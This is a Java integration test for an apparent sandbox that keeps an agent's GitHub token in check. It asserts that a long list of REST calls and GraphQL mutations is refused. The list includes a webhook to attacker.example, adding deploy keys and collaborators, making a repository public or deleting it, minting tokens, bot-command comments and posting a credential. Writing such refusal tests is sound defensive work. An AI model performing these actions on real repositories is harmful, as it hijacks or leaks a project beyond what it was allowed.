package dev.sallyport;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.fixture.github.FakeGithub;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// What cannot be done by the API from inside a sandbox, although the token could do all of it:
/// `FakeGithubIT` shows that this GitHub would have obeyed.
class GithubDoorIT {
    private static GithubRig rig;

    @BeforeAll
    static void start() throws IOException {
        rig = new GithubRig();
    }

    @AfterAll
    static void stop() {
        rig.close();
    }

    /// Puts in what is known only now: a commit and ids.
    private static String known(String text) {
        FakeGithub github = rig.github();
        return text.replace("SHA", github.refs().get("acme/app refs/heads/bob/feature"))
                .replace("RUN", Long.toString(github.run("acme", "app", "main")))
                .replace("OURS", github.nodeId("acme", "app", 4))
                .replace("THEIRS", github.legacyId("acme", "app", 2))
                .replace("FORKED", github.nodeId("acme", "app", 3))
                .replace("FOREIGN", github.nodeId("other", "secret", 0))
                .replace("REPO", github.nodeId("acme", "app", 0));
    }

    /// By a status, or in GraphQL by the error that GitHub has for what does not exist.
    private static void assertRefused(List<String> commands) {
        GithubRig.Moment before = rig.now();
        assertThat(rig.inVain(commands))
                .hasSize(commands.size())
                .allMatch(
                        line ->
                                line.matches(
                                        ".*\"message\".* \\((400|403|404|422)\\)|.*\"NOT_FOUND\".* \\(200\\)"));
        rig.assertNoWriteSince(before);
    }

    @Test
    void G16_whatThePushRulesForbidCannotBeDoneByRest() {
        assertRefused(
                GithubRig.rest(
                        known(
                                """
                                PUT /repos/acme/app/pulls/4/merge {}
                                PUT /repos/acme/app/pulls/2/merge {"merge_method":"squash"}
                                PUT /repositories/101/pulls/4/merge {}
                                PUT /repos/acme/app/contents/x {"message":"m","content":"eA==","branch":"main"}
                                PUT /repos/acme/app/contents/x {"message":"m","content":"eA==","branch":"agent/earlier"}
                                DELETE /repos/acme/app/contents/README.md {"message":"m","sha":"SHA"}
                                POST /repos/acme/app/git/refs {"ref":"refs/heads/agent/x","sha":"SHA"}
                                PATCH /repos/acme/app/git/refs/heads/main {"force":true,"sha":"SHA"}
                                DELETE /repos/acme/app/git/refs/heads/bob%2Ffeature
                                DELETE /repos/acme/app/git/refs/heads/bob/feature
                                POST /repos/acme/app/git/blobs {"content":"x"}
                                POST /repos/acme/app/git/trees {"tree":[]}
                                POST /repos/acme/app/git/commits {"message":"m"}
                                POST /repos/acme/app/git/tags {"tag":"v1"}
                                POST /repos/acme/app/merges {"base":"main","head":"bob/feature"}
                                POST /repos/acme/app/merge-upstream {"branch":"main"}
                                PUT /repos/acme/app/pulls/4/update-branch {}
                                POST /repos/acme/app/releases {"tag_name":"v1"}
                                """)));
    }

    @Test
    void G16_whatATokenCouldDoBesidesCannotBeDoneByRest() {
        assertRefused(
                GithubRig.rest(
                        known(
                                """
                                POST /repos/acme/app/dispatches {"event_type":"deploy"}
                                POST /repos/acme/app/actions/workflows/7001/dispatches {"ref":"main"}
                                POST /repos/acme/app/actions/runs/RUN/rerun
                                POST /repos/acme/app/actions/runs/RUN/cancel
                                PUT /repos/acme/app/actions/secrets/X {}
                                POST /repos/acme/app/pulls/4/reviews {"event":"APPROVE"}
                                POST /repos/acme/app/pulls/2/reviews {"event":"REQUEST_CHANGES","body":"no"}
                                POST /repos/acme/app/hooks {"config":{"url":"https://attacker.example"}}
                                POST /repos/acme/app/keys {"key":"ssh-ed25519 AAAA"}
                                PUT /repos/acme/app/collaborators/mallory {}
                                PUT /repos/acme/app/branches/main/protection {}
                                PATCH /repos/acme/app {"private":false}
                                DELETE /repos/acme/app
                                POST /repos/acme/app/forks {}
                                POST /repos/acme/app/transfer {"new_owner":"mallory"}
                                POST /repos/acme/app/statuses/SHA {"state":"success"}
                                POST /repos/acme/app/check-runs {"name":"build"}
                                PUT /user/starred/acme/app
                                POST /gists {"files":{}}
                                POST /user/repos {"name":"x"}
                                DELETE /installation/token
                                POST /app/installations/4242/access_tokens {}
                                """)));
    }

    @Test
    void G16_G22_noMutationThatIsNotInTheTableGoesUp() {
        assertRefused(
                GithubRig.mutations(
                        known(
                                """
                                mergePullRequest(input:{pullRequestId:"OURS"}){pullRequest{state}}
                                mergePullRequest(input:{pullRequestId:"THEIRS"}){clientMutationId}
                                x:mergePullRequest(input:{pullRequestId:"OURS"}){__typename}
                                enablePullRequestAutoMerge(input:{pullRequestId:"OURS"}){clientMutationId}
                                enqueuePullRequest(input:{pullRequestId:"OURS"}){clientMutationId}
                                updatePullRequestBranch(input:{pullRequestId:"OURS"}){clientMutationId}
                                addPullRequestReview(input:{pullRequestId:"OURS",event:APPROVE}){clientMutationId}
                                addPullRequestReview(input:{pullRequestId:"THEIRS",event:REQUEST_CHANGES,body:"no"}){clientMutationId}
                                createRef(input:{repositoryId:"REPO",name:"refs/heads/agent/x",oid:"SHA"}){clientMutationId}
                                createCommitOnBranch(input:{branch:{repositoryNameWithOwner:"acme/app",branchName:"main"},message:{headline:"m"},expectedHeadOid:"SHA",fileChanges:{additions:[{path:"x",contents:"eA=="}]}}){clientMutationId}
                                mergeBranch(input:{repositoryId:"REPO",base:"main",head:"bob/feature"}){clientMutationId}
                                updateRepository(input:{repositoryId:"REPO",description:"x"}){clientMutationId}
                                addStar(input:{starrableId:"REPO"}){clientMutationId}
                                createIssue(input:{repositoryId:"REPO",title:"t",agentAssignment:{customInstructions:"x"}}){clientMutationId}
                                """)));
    }

    @Test
    void G22_oneDocumentDoesOneThing() {
        String comment =
                known("addComment(input:{subjectId:\"OURS\",body:\"hello\"}){clientMutationId}");
        String merge = known("mergePullRequest(input:{pullRequestId:\"OURS\"}){clientMutationId}");
        Map<String, String> chosen =
                Map.of(
                        "query",
                        "query a{viewer{login}} mutation b{" + merge + "}",
                        "operationName",
                        "b");
        List<String> commands =
                new ArrayList<>(
                        GithubRig.mutations(
                                "a:" + comment + " b:" + comment + "\n" + comment + " " + merge));
        commands.add(GithubRig.graphql("mutation{...f} fragment f on Mutation{" + merge + "}"));
        commands.add(GithubRig.curl("POST", "/graphql", GithubRig.json(chosen)));
        commands.add(GithubRig.curl("POST", "/graphql", GithubRig.json(List.of(chosen))));

        assertRefused(commands);
    }

    @Test
    void G23_aPullRequestThatIsNotOursCannotBeChangedUnderEitherName() {
        List<String> commands = new ArrayList<>();
        for (String number : List.of("2", "3")) {
            commands.addAll(
                    GithubRig.rest(
                            """
                            PATCH /repos/acme/app/issues/N {"state":"closed"}
                            PATCH /repos/acme/app/issues/N {"title":"x"}
                            PATCH /repos/acme/app/pulls/N {"state":"closed"}
                            PATCH /repos/acme/app/pulls/N {"base":"release/1.0"}
                            PATCH /repos/acme/app/pulls/N {"body":"x"}
                            PUT /repos/acme/app/issues/N/lock {}
                            POST /repos/acme/app/issues/N/labels {"labels":["bug"]}
                            """
                                    .replace("/N", "/" + number)));
        }
        for (String id : List.of("THEIRS", "FORKED")) {
            commands.addAll(
                    GithubRig.mutations(
                            known(
                                    """
                                    updatePullRequest(input:{pullRequestId:"ID",baseRefName:"release/1.0"}){clientMutationId}
                                    updatePullRequest(input:{pullRequestId:"ID",body:"x"}){clientMutationId}
                                    convertPullRequestToDraft(input:{pullRequestId:"ID"}){clientMutationId}
                                    closePullRequest(input:{pullRequestId:"ID"}){clientMutationId}
                                    updateIssue(input:{id:"ID",state:CLOSED}){clientMutationId}
                                    """
                                            .replace("ID\"", id + "\""))));
        }
        assertRefused(commands);
    }

    @Test
    void G23_aPullRequestComesFromABranchThatMayBePushed() {
        List<String> commands =
                new ArrayList<>(
                        GithubRig.rest(
                                """
                                POST /repos/acme/app/pulls {"title":"t","base":"main","head":"release/1.0"}
                                POST /repos/acme/app/pulls {"title":"t","base":"main","head":"mallory:patch-1"}
                                POST /repos/acme/app/pulls {"title":"t","base":"main","head":"agent/earlier","head_repo":"secret"}
                                POST /repos/acme/app/pulls {"issue":1,"base":"main","head":"release/1.0"}
                                """));
        commands.addAll(
                GithubRig.mutations(
                        known(
                                """
                                createPullRequest(input:{repositoryId:"REPO",baseRefName:"main",headRefName:"release/1.0",title:"t"}){pullRequest{id}}
                                createPullRequest(input:{repositoryId:"REPO",baseRefName:"main",headRefName:"mallory:patch-1",title:"t"}){pullRequest{id}}
                                createPullRequest(input:{repositoryId:"FOREIGN",baseRefName:"main",headRefName:"agent/x",title:"t"}){pullRequest{id}}
                                createPullRequest(input:{repositoryId:"REPO",headRepositoryId:"FOREIGN",baseRefName:"main",headRefName:"agent/x",title:"t"}){pullRequest{id}}
                                """)));
        assertRefused(commands);
    }

    @Test
    void G24_textThatCommandsIsNotSent() {
        List<String> commands =
                new ArrayList<>(
                        GithubRig.rest(
                                """
                                POST /repos/acme/app/issues/4/comments {"body":"/merge"}
                                POST /repos/acme/app/issues/4/comments {"body":"please\\r\\n  /deploy production"}
                                POST /repos/acme/app/issues/1/comments {"body":"hi @deploy-bot[bot] merge"}
                                POST /repos/acme/app/issues/1/comments {"body":"@dependabot merge"}
                                PATCH /repos/acme/app/pulls/4 {"body":"/approve"}
                                POST /repos/acme/app/issues {"title":"t","body":"/assign mallory"}
                                POST /repos/acme/app/issues {"title":"t","assignees":["copilot-swe-agent[bot]"]}
                                POST /repos/acme/app/pulls/4/requested_reviewers {"reviewers":["mallory"]}
                                """));
        commands.addAll(
                GithubRig.mutations(
                        known(
                                """
                                addComment(input:{subjectId:"OURS",body:"ok\\n/merge"}){clientMutationId}
                                updatePullRequest(input:{pullRequestId:"OURS",body:"/merge"}){clientMutationId}
                                """)));
        assertRefused(commands);
    }

    @Test
    void G24_aCredentialIsNotSentAsText() {
        String secret = "ghp_" + "q8Zr2Kd7Lm4Xw9Vb1Nc6Tf3Hj5Ps0Yg2Ra7E";
        assertRefused(
                GithubRig.rest(
                        """
                        POST /repos/acme/app/issues/1/comments {"body":"SECRET"}
                        PATCH /repos/acme/app/pulls/4 {"title":"SECRET"}
                        """
                                .replace("SECRET", secret)));
    }
}
